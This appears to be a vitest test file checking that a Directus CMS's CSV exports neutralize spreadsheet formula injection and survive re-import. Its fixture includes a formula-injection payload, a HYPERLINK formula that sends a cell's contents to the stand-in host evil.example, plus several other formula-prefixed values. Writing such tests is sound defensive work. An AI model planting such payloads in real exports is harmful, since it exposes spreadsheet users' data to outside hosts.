import { randomUUID } from "node:crypto";
import { describe, expect, test } from "vitest";
import { z } from "zod";
import { type Installation, rows } from "./installation.ts";

const MARK = "\ufeff";
const file = z.array(z.object({ id: z.string(), type: z.string() }));

/** CSV exports of a real Directus in all variants, and imports of them. */
export function exportCases(hub: () => Installation): void {
	describe("[EV-1] an export as CSV", () => {
		const message = {
			id: randomUUID(),
			state: "new",
			locale: "de",
			email: "mara@example.org",
			name: '=HYPERLINK("http://evil.example/?"&B2,"Jörg")',
			organisation: "+1+1",
			subject: "-1+2",
			message: "@SUM(1);=2",
		};
		const fields = "id,name,organisation,subject,message";
		const written = new RegExp(
			`^${MARK}id,name,organisation,subject,message\\r\\n"${message.id}","""=HYPERLINK[^\\r\\n]*Jörg[^\\r\\n]*""","""\\+1\\+1""","""-1\\+2""","""@SUM\\(1\\)\\\\u003b=2"""$`,
		);
		const call = async (path: string, method = "GET", body?: object) => {
			const authorization = `Bearer ${hub().cms.credentials.directus.adminToken}`;
			const headers = { authorization, ...(body ? { "content-type": "application/json" } : {}) };
			return fetch(hub().cms.url + path, { method, headers, ...(body ? { body: JSON.stringify(body) } : {}) });
		};
		const filter = { id: { _eq: message.id } };
		const narrowed = `fields=${fields}&filter=${encodeURIComponent(JSON.stringify(filter))}`;
		const textOf = async (response: Response) => {
			expect(response.status, await response.clone().text()).toBe(200);
			// `text()` would remove the byte order mark.
			return Buffer.from(await response.arrayBuffer()).toString("utf8");
		};

		test.each([
			["csv", "GET", `?export=csv&${narrowed}`],
			["csv_utf8", "GET", `?export=csv_utf8&${narrowed}`],
			["csv", "SEARCH", "?export=csv"],
			["csv", "GET", `/${message.id}?export=csv&fields=${fields}`],
		])("has no formula and a byte order mark: %s by %s %s", async (_format, method, query) => {
			if ((await call(`/items/contact_messages/${message.id}`)).status !== 200)
				await hub().admin.create("/items/contact_messages", message);
			const body = method === "SEARCH" ? { query: { filter, fields: fields.split(",") } } : undefined;
			const response = await call(`/items/contact_messages${query}`, method, body);
			expect(response.headers.get("content-disposition")).toMatch(
				/^attachment; filename="contact_messages \d{4}-\d\d-\d\d\.csv"$/,
			);
			expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
			const text = await textOf(response);
			if (method === "SEARCH") expect(text).toMatch(/"""=HYPERLINK/);
			else expect(text).toMatch(written);
			expect(text.startsWith(MARK)).toBe(true);
			expect(text).not.toMatch(/(^|,)"?[=+@\t]/m);
		});

		test("in the file library is the same, and an import of it restores every text", async () => {
			const before = file.parse(await hub().admin.read("/files", { fields: ["id", "type"], limit: -1 }, rows));
			const body = {
				query: { fields: fields.split(","), filter, sort: ["id"], limit: -1 },
				format: "csv",
				file: { folder: null },
			};
			expect((await call("/utils/export/contact_messages", "POST", body)).status).toBe(204);
			const exported = async () =>
				file
					.parse(await hub().admin.read("/files", { fields: ["id", "type"], limit: -1 }, rows))
					.find(({ id }) => !before.some((one) => one.id === id));
			await expect.poll(exported, { timeout: 20_000 }).toBeDefined();
			const stored = await exported();
			expect(stored?.type).toBe("text/csv");
			// The file's size is stored when it is complete.
			const size = () =>
				hub().admin.read(`/files/${stored?.id}`, { fields: ["filesize"] }, z.object({ filesize: z.unknown() }));
			await expect.poll(async () => (await size()).filesize, { timeout: 10_000 }).not.toBeNull();
			const text = await textOf(await call(`/assets/${stored?.id}?download`));
			expect(text).toMatch(written);

			const changed = { name: "-", organisation: "-", subject: "-", message: "-" };
			await hub().admin.update(`/items/contact_messages/${message.id}`, changed);
			const form = new FormData();
			form.append("file", new Blob([text], { type: "text/csv" }), "messages.csv");
			const imported = await hub().call("POST", "/utils/import/contact_messages", form);
			expect(imported.status, imported.text).toBe(200);
			const [again] = await hub().admin.read("/items/contact_messages", { filter, fields: ["*"] }, rows);
			expect(again).toMatchObject(message);
			await hub().remove(`/items/contact_messages/${message.id}`);
			await hub().remove(`/files/${stored?.id}`);
		});

		test("of no rows has its byte order mark alone; refusals and other formats are Directus' own", async () => {
			const none = encodeURIComponent(JSON.stringify({ id: { _eq: randomUUID() } }));
			expect(await textOf(await call(`/items/posts?export=csv&filter=${none}`))).toBe(MARK);
			const refused = await fetch(`${hub().cms.url}/items/posts?export=csv`);
			expect([refused.status, refused.headers.get("content-type")]).toEqual([403, expect.stringContaining("json")]);
			const json = await call("/items/posts?export=json&fields=title&limit=1");
			expect(await json.json()).toEqual([{ title: expect.any(String) }]);
		});

		test("has columns for fields of a related entry", async () => {
			const text = await textOf(await call("/items/posts?export=csv&fields=id,author.display_name&limit=2"));
			expect(text.split("\r\n")[0]).toBe(`${MARK}id,author.display_name`);
		});
	});
}
